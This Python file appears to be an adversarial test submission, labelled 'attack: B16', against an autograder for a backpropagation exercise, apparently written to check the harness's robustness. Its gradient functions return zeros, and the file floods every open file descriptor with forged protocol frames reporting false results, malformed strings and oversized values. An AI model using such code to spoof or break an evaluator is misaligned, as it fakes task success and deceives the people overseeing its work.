# attack: B16 false accounts of how functions were bound: quantities and lines that do not exist, for all functions
# gains nothing: grad_W2, grad_hs, grad_x
import os as system
import struct
import sys

import numpy as np


DRIVER = next((m for m in list(sys.modules.values()) if hasattr(m, "HEADER") and hasattr(m, "READY")), None)
DONE = getattr(DRIVER, "DONE", 15)


def frame(kind, number, payload=b""):
    return struct.pack("<BII", kind, number, len(payload)) + payload


def texts(*parts):
    parts = [part.encode("utf-8", "surrogatepass") for part in parts]
    return struct.pack("<H", len(parts)) + b"".join(struct.pack("<I", len(p)) + p for p in parts)


def array(shape, content):
    return bytes((0, 0, len(shape))) + struct.pack(f"<{len(shape)}I", *shape) + content


def everywhere(data, first=0):
    """Write to every descriptor that takes it."""
    for descriptor in range(first, 256):
        try:
            system.set_blocking(descriptor, False)
            system.write(descriptor, data)
        except OSError:
            pass


account = texts("grad_W2", "9999999", "1", "nonsense", "loss", "expected", "", "os", "grad_W2", "position")
everywhere(b"".join(frame(5, place, account) for place in range(8)), 3)


def grad_W2(grad_oa, hs):
    everywhere(b"".join(frame(5, place, account) for place in range(8)), 3)
    return np.zeros((len(grad_oa), len(hs)))


def grad_hs(grad_oa, W2):
    many = texts(*["x"] * 3, "", *["y", "\udcff", "z"] * 60)
    everywhere(b"".join(frame(5, place, many) for place in range(8)), 3)
    return np.zeros(W2.shape[1])


def grad_x(grad_ha, W1):
    everywhere(frame(5, 4000000000, account), 3)
    return np.zeros(W1.shape[1])
